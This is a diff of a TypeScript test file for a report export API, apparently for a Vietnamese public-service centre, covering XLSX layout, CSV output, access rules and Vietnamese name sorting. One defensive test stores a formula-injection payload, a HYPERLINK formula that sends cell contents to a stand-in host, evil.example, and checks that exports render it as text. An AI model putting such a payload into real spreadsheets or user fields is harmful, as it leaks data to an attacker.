@@ -1,10 +1,10 @@
 /**
  * The report API over the constructed day of scenario.ts: the JSON figures, the CSV (BOM,
- * Vietnamese headers, the same numbers) and the XLSX (unzipped and read back cell by cell),
+ * Vietnamese headers, the same numbers) and the XLSX (read back with ExcelJS, cell by cell),
  * who may see reports, and the stable codes for bad queries.
  */
 import t from 'tap'
-import { strFromU8, unzipSync } from 'fflate'
+import ExcelJS from 'exceljs'
 import type { ReportSummary } from '../../shared/reports.js'
 import { aUser, build, login } from '../helpers/build.js'
 import { local, playScenario } from './scenario.js'
@@ -18,17 +18,6 @@ async function setup(t: Parameters<typeof build>[0]) {
   built.clock.set(local(25, 9, 0))
   const manager = await login(built.app, 'lanhdao')
   return { ...built, ids, manager }
-}
-
-/** Cells of a worksheet as { A1: value }, reading inline strings and numbers. */
-function sheetCells(xml: string): Record<string, string | number> {
-  const cells: Record<string, string | number> = {}
-  for (const m of xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>(.*?)<\/c>/g)) {
-    const [, ref, attrs, body] = m as unknown as [string, string, string, string]
-    if (attrs.includes('t="inlineStr"')) cells[ref] = (/<t[^>]*>(.*?)<\/t>/.exec(body)?.[1] ?? '').replace(/&amp;/g, '&')
-    else cells[ref] = Number(/<v>(.*?)<\/v>/.exec(body)?.[1])
-  }
-  return cells
 }
 
 t.test('GET /api/reports/summary gives a manager every figure', async (t) => {
@@ -97,38 +86,81 @@ t.test('the CSV for Excel with Vietnamese regional settings: semicolons between 
   t.equal(bad.json().code, 'bad_request', 'an unknown separator is refused with a stable code')
 })
 
-t.test('the XLSX is a real workbook with Vietnamese sheets, headers and numeric cells', async (t) => {
+/** The workbook of a response, read back with ExcelJS as Excel would open it. */
+async function workbookOf(payload: Buffer): Promise<ExcelJS.Workbook> {
+  const book = new ExcelJS.Workbook()
+  await book.xlsx.load(payload as unknown as ArrayBuffer)
+  return book
+}
+
+t.test('the XLSX is a real workbook: the centre and period on top, frozen headers, dates, numbers and percentages', async (t) => {
   const { app, manager } = await setup(t)
+  app.storage.sqlite.prepare("update sites set name = 'Trung tâm Phục vụ hành chính công tỉnh Quảng Trị' where id = 1").run()
   const res = await app.inject({ method: 'GET', url: `/api/reports/export.xlsx?${RANGE}`, headers: manager.headers })
   t.equal(res.statusCode, 200)
   t.equal(res.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
-  const files = unzipSync(new Uint8Array(res.rawPayload))
-  t.ok(files['[Content_Types].xml'] && files['xl/workbook.xml'] && files['xl/styles.xml'])
-  const workbook = strFromU8(files['xl/workbook.xml']!)
-  const names = [...workbook.matchAll(/<sheet name="([^"]+)"/g)].map((m) => m[1])
-  t.same(names, ['Tổng hợp', 'Theo lĩnh vực', 'Theo quầy', 'Theo cán bộ', 'Theo đối tượng', 'Theo giờ', 'Theo thứ', 'Theo ngày'])
+  const book = await workbookOf(res.rawPayload)
+  t.same(
+    book.worksheets.map((s) => s.name),
+    ['Tổng hợp', 'Theo lĩnh vực', 'Theo quầy', 'Theo cán bộ', 'Theo đối tượng', 'Theo giờ', 'Theo thứ', 'Theo ngày'],
+  )
+  for (const sheet of book.worksheets) {
+    t.equal(sheet.getCell('A1').value, 'Trung tâm Phục vụ hành chính công tỉnh Quảng Trị', `${sheet.name}: the centre on top`)
+    t.equal(sheet.getCell('A2').value, 'Báo cáo thời gian chờ từ ngày 23/11/2026 đến ngày 24/11/2026', `${sheet.name}: and the period`)
+  }
 
-  const summary = sheetCells(strFromU8(files['xl/worksheets/sheet1.xml']!))
-  t.equal(summary.A1, 'Từ ngày')
-  t.equal(summary.B1, '2026-11-23')
-  t.equal(summary.B3, 'Tất cả')
-  // Six filter rows, a blank row, then the header on row 8 and the total on row 9.
-  t.equal(summary.A8, 'Phạm vi')
-  t.equal(summary.B8, 'Số phiếu cấp')
-  t.equal(summary.B9, 7)
-  t.equal(summary.C9, 4)
-  t.equal(summary.J9, 19, 'mean wait in minutes, a number')
-  t.equal(summary.K9, 12.5)
-  t.equal(summary.R9, 0.833, 'share as a fraction, shown as a percentage by its format')
+  const summary = book.getWorksheet('Tổng hợp')!
+  t.equal(summary.getCell('A3').value, 'Từ ngày')
+  t.equal(summary.getCell('B3').type, ExcelJS.ValueType.Date, 'the first day is an Excel date')
+  t.same(summary.getCell('B3').value, new Date(Date.UTC(2026, 10, 23)))
+  t.equal(summary.getCell('B3').numFmt, 'dd/mm/yyyy')
+  t.equal(summary.getCell('B5').value, 'Tất cả')
+  // Two title rows, six filter rows, a blank row, then the header on row 10 and the total on row 11.
+  t.equal(summary.getCell('A10').value, 'Phạm vi')
+  t.equal(summary.getCell('B10').value, 'Số phiếu cấp')
+  t.match(summary.views[0], { state: 'frozen', ySplit: 10, xSplit: 1, topLeftCell: 'B11' }, 'the header row and the first column stay in view')
+  t.equal(summary.getCell('B11').value, 7)
+  t.equal(summary.getCell('B11').type, ExcelJS.ValueType.Number)
+  t.equal(summary.getCell('C11').value, 4)
+  t.equal(summary.getCell('J11').value, 19, 'mean wait in minutes, a number')
+  t.equal(summary.getCell('J11').numFmt, '0.0')
+  t.equal(summary.getCell('K11').value, 12.5)
+  t.equal(summary.getCell('R11').value, 0.833, 'share as a fraction…')
+  t.equal(summary.getCell('R11').numFmt, '0.0%', '…shown as a percentage by its format')
 
-  const byService = sheetCells(strFromU8(files['xl/worksheets/sheet2.xml']!))
-  t.equal(byService.A1, 'Lĩnh vực')
-  t.equal(byService.A2, 'DD – Đất đai')
-  t.equal(byService.B2, 3)
-  t.equal(byService.L2, 52, 'DD 90th percentile wait')
-  const byDay = sheetCells(strFromU8(files['xl/worksheets/sheet8.xml']!))
-  t.equal(byDay.A3, '2026-11-24')
-  t.equal(byDay.B3, 1)
+  const byService = book.getWorksheet('Theo lĩnh vực')!
+  t.equal(byService.getCell('A4').value, 'Lĩnh vực')
+  t.equal(byService.getCell('A5').value, 'DD – Đất đai')
+  t.equal(byService.getCell('B5').value, 3)
+  t.equal(byService.getCell('L5').value, 52, 'DD 90th percentile wait')
+  const byDay = book.getWorksheet('Theo ngày')!
+  t.equal(byDay.getCell('A6').type, ExcelJS.ValueType.Date, 'days are Excel dates, not text')
+  t.same(byDay.getCell('A6').value, new Date(Date.UTC(2026, 10, 24)))
+  t.equal(byDay.getCell('A6').numFmt, 'dd/mm/yyyy')
+  t.equal(byDay.getCell('B6').value, 1)
+})
+
+t.test('a name that reads as a formula stays text in the CSV and the XLSX', async (t) => {
+  const { app, manager, ids } = await setup(t)
+  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+  app.storage.sqlite.prepare('update users set display_name = ? where id = ?').run(evil, ids.canbo3)
+  app.storage.sqlite.prepare('update counters set name = ? where id = ?').run('@SUM(1+1)', ids.counter3)
+  const csv = await app.inject({ method: 'GET', url: `/api/reports/export.csv?${RANGE}`, headers: manager.headers })
+  const lines = csv.rawPayload.subarray(3).toString('utf8').split('\r\n')
+  const staffLine = lines.find((l) => l.startsWith('Theo cán bộ,') && l.includes('HYPERLINK'))
+  t.ok(staffLine, 'the staff member is in the CSV')
+  t.ok(staffLine!.startsWith(`Theo cán bộ,"'=HYPERLINK(`), 'behind an apostrophe, so Excel reads text')
+  t.notOk(lines.some((l) => /(^|[,;])"?[=+@-]/.test(l)), 'no CSV cell starts with = + - @')
+  t.ok(lines.some((l) => l.startsWith("Theo quầy,'@SUM(1+1)")), 'the counter too')
+
+  const xlsx = await app.inject({ method: 'GET', url: `/api/reports/export.xlsx?${RANGE}`, headers: manager.headers })
+  const book = await workbookOf(xlsx.rawPayload)
+  const staff = book.getWorksheet('Theo cán bộ')!
+  const cells: ExcelJS.Cell[] = []
+  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((c) => cells.push(c))))
+  t.equal(cells.filter((c) => c.type === ExcelJS.ValueType.Formula).length, 0, 'no formula anywhere in the workbook')
+  const name = staff.getColumn(1).values.find((v) => typeof v === 'string' && v.includes('HYPERLINK'))
+  t.equal(name, `'${evil}`, 'the name is text with the apostrophe')
 })
 
 t.test('reports are for managers and administrators only', async (t) => {
@@ -163,4 +195,14 @@ t.test('bad queries answer 400 with a stable code, never 500', async (t) => {
       t.equal(res.json().code, code, `${path}?${query}`)
     }
   }
+})
+
+t.test('staff are listed in Vietnamese alphabetical order (Đ after D), not byte order', async (t) => {
+  const { app, manager } = await setup(t)
+  const names = ['Đặng Văn Khoa', 'Dương Thị Hạnh', 'Bùi Minh Châu', 'Ánh Nguyệt']
+  const insert = app.storage.sqlite.prepare("insert into users (site_id, username, display_name, password_hash, role, created_at) values (1, ?, ?, 'x', 'staff', 0)")
+  names.forEach((n, i) => insert.run(`sort${i}`, n))
+  const res = await app.inject({ method: 'GET', url: `/api/reports/summary?${RANGE}`, headers: manager.headers })
+  const listed = (res.json() as ReportSummary).lookups.staff.map((s) => s.displayName).filter((n) => names.includes(n))
+  t.same(listed, ['Ánh Nguyệt', 'Bùi Minh Châu', 'Dương Thị Hạnh', 'Đặng Văn Khoa'])
 })
